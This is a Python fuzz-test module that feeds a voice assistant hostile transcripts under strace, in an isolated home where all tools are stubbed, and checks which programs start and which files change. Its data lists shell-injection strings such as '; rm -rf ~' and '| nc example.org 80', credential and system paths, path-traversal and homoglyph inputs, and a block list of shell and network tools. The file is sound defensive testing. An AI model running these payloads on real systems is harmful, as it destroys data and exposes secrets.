"""Hostile transcripts, carried through the real program while each process that it starts and each file is traced.

`attack` starts `python -m tests.hostile COUNT SEED` under strace, in a home of its own, without a display. There, each
transcript is routed, judged by the policy and performed as `aihear ask` does it; every third is put as a slot's value
into an intent that takes free text. Programs are real processes, started by acting/programs.py: PATH is a folder in
which the names of all tools that plugins know, and of many that they must never start (sh, rm, curl …), are links to
`true`. Only typing is a dry run: it needs a screen.
"""

from __future__ import annotations

import functools
import json
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import tomllib
import traceback
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from . import rigs

LONG = 10_000  # characters
HUNG_S = 20  # for one transcript: then it is a fault
FORBIDDEN = (
    "sh", "bash", "dash", "zsh", "env", "rm", "touch", "id", "nc", "curl", "wget", "python3", "perl", "sudo", "su",
    "kill", "dd", "mv", "cp", "cat", "tee", "xargs", "ssh",
)  # fmt: skip
OWN = ("rsync", "logger", "viewer")
SETTINGS = """
[plugin.commands.own.backup]
say = ["back up my {folder}"]
run = ["rsync", "-a", "{folder}", "/media/disk"]
slots = { folder = ["photos", "documents"] }
[plugin.commands.own.log]
say = ["log entry {words}"]
run = ["logger", "{words}"]
slots = { words = "text" }
[plugin.commands.own.view]
say = ["view file {file}"]
run = ["viewer", "--plain", "{file}"]
slots = { file = "path" }
"""
ENTRIES = {"sketch": "Name=Sketch Pad\nExec=sketchpad --new %U", "player": "Name=Player\nExec=player"}
STARTED = {"sketchpad": ["--new"], "player": []}

# What is hostile

SHELL = (
    "; rm -rf ~", "$(touch /tmp/owned)", "`id`", "| nc example.org 80", "&& reboot", "> /etc/passwd", "< /dev/zero",
    "$HOME", "${IFS}rm${IFS}-rf", "'; rm x; '", '"; rm x; "', "\\", "!!", "*", "?", "~/.ssh/id_rsa", "%PATH%", "& sh &",
    "a\nrm -rf ~\n", "sh -c id", "bash", "/bin/sh", "python3 -c 'import os'", "sudo reboot", "reboot", "poweroff", "rm",
    "env sh", "x;sh", "$(sh)",
)  # fmt: skip
DASHES = (
    "-rf", "--help", "--exec=sh", "-c id", "--", "-", "−rf", "–e sh", "——version", "﹣x", "－rf", " -rf", "\u200b-rf",
    "\t-rf",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "/etc/shadow", "~root/.bashrc", "file:///etc/passwd", "..\\..\\windows", "C:\\Windows",
    "//host/share", "．．／etc／passwd", "..", ".", "/", "a/../../b", ".bashrc", ".desktop", "con",
    "nul", "a" * 300 + ".txt", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "..％2f",
    "about:config", "http://user@example.org/$(id)", "\\\\host\\share", "/dev/sda", "/proc/self/environ",
    "....//....//etc",
    "notes/../../../../../etc/cron.d/x", "%2e%2e%2fetc",
)  # fmt: skip
LOOKS = (
    "оpen the tеrminal", "ｒｍ　－ｒｆ", "ⅿute", "\u202etxt.exe", "\u2066open\u2069", "o\u200bpen the browser",
    "ѕhut down", "ᴏpen", "a\u0301" * 40, "\u2044etc\u2044passwd", "∕etc∕passwd", "；rm", "＄（id）", "‚rm‘", "\u00a0",
    "\u3000", "\ufeff", "🏴\u200d☠️", "שלום; rm", "\u0640" * 20, "İstanbul ſs ß",
)  # fmt: skip
CONTROL = (
    "\x00", "a\x00b", "\x1b[2J", "\x1b]0;x\x07", "\r\n", "\x07", "\x7f", "\x08" * 9, "\u2028", "\x85", "\x0b", "\ud800",
    "\udcff", "\x03", "\x04", "\x1a",
)  # fmt: skip
BRACES = (
    "{0}", "{text}", "{__class__}", "{0.__class__.__mro__}", "%s%s%n", "%(x)s", "{", "}", "{{", "{}", "$text", "<rule>",
    "<stell>", "[x]", "(a|b)", "{text:label}", "{program}", "(", ")", "[", "]", "|", "<", ">", "{percent}", "{file}",
    "\\N{BEL}", "{{7*7}}", "((((", "[[[[", "(a|(b|(c|d",
)  # fmt: skip
FAMILIES = (SHELL, DASHES, PATHS, LOOKS, CONTROL, BRACES)
CARRIERS = (
    "open {}", "open the browser {}", "start {} please", "close {}", "switch to {}", "type {}", "spell {}", "timer {}",
    "remind me to {} at seven", "set a {} timer for ten minutes", "volume {}", "press {}", "log entry {}",
    "view file {}",
    "back up my {}", "back up my photos {}", "correct {} to {}", "help with {}", "snake case {}", "go to {}",
    "check my pronunciation of {}", "add {} to the shopping list", "take a note {}", "search for {}", "what is {}",
    "search the web for {}", "how much is {}", "translate {}", "öffne {}", "schreib {}",
    "erinnere mich um sieben an {}",
    "abre {}", "escribe {}", "ouvre {}", "écris {}", "打开{}", "输入{}", "提醒我明天{}", "hey jarvis {}", "{}",
    "open the browser", "open sketch pad", "back up my photos",
)  # fmt: skip
LANGUAGES = ("en", "de", "es", "fr", "zh", "", "xx")


def piece(chance: random.Random) -> str:
    if chance.random() < 0.03:
        unit = chance.choice(chance.choice(FAMILIES)) + chance.choice(("", " ", "a", "一", "5 "))
        return (unit * LONG)[:LONG]
    several = [chance.choice(chance.choice(FAMILIES)) for _ in range(chance.choice((1, 1, 1, 2, 3)))]
    return chance.choice((" ", "", "; ")).join(several)


def transcript(chance: random.Random) -> tuple[str, str]:
    """The text, and the language it is taken for."""
    text = chance.choice(CARRIERS).replace("{}", piece(chance)) if chance.random() < 0.9 else _scrambled(chance)
    return text, chance.choice(LANGUAGES)


def _scrambled(chance: random.Random) -> str:
    """Any characters at all."""
    most = (0x80, 0x3000, 0x110000)
    return "".join(chr(chance.randrange(chance.choice(most))) for _ in range(chance.randrange(1, 60)))


# The child: it is traced


@dataclass
class _Tally:
    counts: Counter[str] = field(default_factory=Counter)
    faults: list[str] = field(default_factory=list)
    slowest: float = 0.0
    slowest_text: str = ""


def _attacked(count: int, seed: int) -> _Tally:
    from aihear_voice.acting.dry import DryTypist
    from aihear_voice.mind import build_mind
    from aihear_voice.settings import load

    chance = random.Random(seed)
    mind = build_mind(load(), emit=lambda event: None, dry_run=False, word_times=lambda audio: None)
    mind = replace(mind, services=replace(mind.services, typist=DryTypist()))
    mind.router.warm(mind.settings.understanding.languages)
    slots = list(_free_text(mind))
    tally = _Tally(Counter(free_text_slots=len(slots)))
    signal.signal(signal.SIGALRM, _hung)
    for number in range(count):
        if number % 3:
            what, language = transcript(chance)
            work = functools.partial(_say, mind, what, language)
        else:
            match, name = slots[(seed + number // 3) % len(slots)]
            text = piece(chance)
            what = f"{match.plugin}.{match.intent} {name}={text}"
            work = functools.partial(_fill, mind, match, name, text)
        signal.alarm(HUNG_S)
        started = time.monotonic()
        _guarded(tally, what, work)
        took = time.monotonic() - started
        signal.alarm(0)
        if took > tally.slowest:
            tally.slowest, tally.slowest_text = took, what[:80]
    return tally


def _hung(*_: object) -> None:
    raise TimeoutError(f"longer than {HUNG_S} s")


def _guarded(tally: _Tally, what: str, work: Any) -> None:
    from aihear_voice.errors import AihearError

    try:
        tally.counts[work()] += 1
    except AihearError as error:
        tally.counts[f"refused: {error.code}"] += 1
    except Exception:  # that is what is looked for
        tally.counts["fault"] += 1
        tally.faults.append(f"{what[:200]!r}: {traceback.format_exc()[-1500:]}")


def _say(mind: Any, text: str, language: str) -> str:
    match = mind.router.route(text, language, "assist")
    mind.router.suggest(text, language)
    if match is None:
        return "no match"
    verdict = mind.verdict(match)
    return _perform(mind, match, text) if verdict == "allow" else f"verdict: {verdict}"


def _perform(mind: Any, match: Any, text: str) -> str:
    from aihear_voice.plugin.call import perform

    reply = perform(mind.by_name[match.plugin], mind.services, match, text)
    json.dumps(reply.text)
    return "performed"


def _fill(mind: Any, match: Any, name: str, text: str) -> str:
    return f"slot {_perform(mind, replace(match, slots={**match.slots, name: text}), text)}"


def _free_text(mind: Any) -> Iterator[tuple[Any, str]]:
    """A match for each intent with a free-text slot that needs no yes, and the slot's name."""
    from aihear_voice.plugin import templates

    marker = "something"
    for plugin in mind.by_name.values():
        for language, grammar in plugin.grammars.items():
            for intent, sentence in ((name, sentence) for name, all_ in grammar.sentences.items() for sentence in all_):
                said = templates.plainest(sentence, grammar, language).replace("…", marker)
                for purpose in plugin.intents[intent].purposes:
                    match = mind.router.route(said, language, purpose)
                    meant = match is not None and (match.plugin, match.intent) == (plugin.name, intent)
                    if meant and mind.verdict(match) == "allow":
                        yield from ((match, name) for name, value in match.slots.items() if marker in str(value))


# The parent: it traces


@dataclass(frozen=True)
class Result:
    """argvs: of each program that was started; written: files and folders that were changed; report: the child's."""

    argvs: Sequence[Sequence[str]]
    written: Sequence[str]
    report: dict[str, Any]
    home: Path


def attack(folder: Path, count: int, seed: int, timeout: float) -> Result:
    home, log = folder / "home", folder / "trace"
    programs = _programs(folder / "bin")
    _write(home / ".config/aihear/settings.toml", SETTINGS)
    for name, entry in ENTRIES.items():
        path = home / f".local/share/applications/{name}.desktop"
        _write(path, f"[Desktop Entry]\nType=Application\n{entry}\n")
    temporary = home / "tmp"
    temporary.mkdir()
    environment = {
        "HOME": str(home),
        "PATH": str(programs),
        "TMPDIR": str(temporary),
        "LANG": "C.UTF-8",
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": str(Path(__file__).parents[1]),
        "XDG_DATA_DIRS": str(folder / "none"),
        "XDG_RUNTIME_DIR": str(temporary),
    }
    command = [*strace(log), sys.executable, "-X", "utf8", "-m", "tests.hostile", str(count), str(seed)]
    done = subprocess.run(
        command, env=environment, cwd=home, capture_output=True, text=True, timeout=timeout, check=False
    )
    assert done.returncode == 0, done.stderr[-3000:]
    argvs, written = read_trace(log)
    return Result(argvs[1:], written, json.loads(done.stdout.splitlines()[-1]), home)


def strace(log: Path) -> list[str]:
    """Follows every thread and child; tells each program that is started, and each call that may change a file."""
    rigs.need("strace")
    calls = (
        "execve", "execveat", "open", "openat", "creat", "mkdir", "mkdirat", "rename", "renameat", "renameat2",
        "unlink", "unlinkat", "rmdir", "link", "linkat", "symlink", "symlinkat", "truncate", "chmod", "fchmodat",
    )  # fmt: skip
    whole = ["-xx", "-s", str(4 * LONG)]  # texts in hexadecimal, and not cut
    where = ["-e", f"trace={','.join(calls)}", "-e", "signal=none", "-o", str(log)]
    return [str(shutil.which("strace")), "-f", "-qq", "--seccomp-bpf", *whole, *where]


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def _programs(folder: Path) -> Path:
    folder.mkdir(parents=True)
    true = str(shutil.which("true"))
    for name in sorted({*known_tools(), *OWN, *STARTED, *FORBIDDEN}):
        (folder / name).symlink_to(true)
    return folder


@functools.cache
def known_tools() -> frozenset[str]:
    """The programs that the commands and web plugins may start, by their own tables."""
    tools = _table("plugins/commands/tools.toml")
    programs = {name for names in tools["programs"].values() for name in names}
    groups = (group for key, group in tools.items() if key not in ("programs", "names"))
    browsers = {argv[0] for argv in _table("plugins/web/addresses.toml")["browsers"]}
    return frozenset(browsers | programs | {argv[0] for group in groups for argvs in group.values() for argv in argvs})


def _table(path: str) -> dict[str, Any]:
    return tomllib.loads((Path(__file__).parents[1] / path).read_text(encoding="utf-8"))


_CALL = re.compile(r"(?:\d+\s+)?(?P<name>\w+)\((?P<rest>.*)")
_TEXT = re.compile(r'"((?:\\x[0-9a-f]{2})*)"')


def read_trace(log: Path) -> tuple[list[list[str]], list[str]]:
    """The argument list of each program that was started, and each path opened to be written, made or moved."""
    argvs: list[list[str]] = []
    written: list[str] = []
    for line in log.read_text(encoding="ascii", errors="replace").splitlines():
        call = _CALL.match(line)
        if call is None or " = -1 " in line[-120:]:
            continue
        name, rest = call["name"], call["rest"]
        if name.startswith("execve"):
            arguments = rest[rest.index("[") : rest.rindex("], ")]
            argvs.append([_unhex(text) for text in _TEXT.findall(arguments)])
        elif not name.startswith("open") or re.search(r"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC", rest):
            written += [_unhex(text) for text in _TEXT.findall(rest)]
    return argvs, written


def _unhex(text: str) -> str:
    return bytes.fromhex(text.replace("\\x", "")).decode("utf-8", "surrogateescape")


if __name__ == "__main__":
    print(json.dumps(vars(_attacked(int(sys.argv[1]), int(sys.argv[2])))), flush=True)
    os._exit(0)  # programs that were started may still be waited for
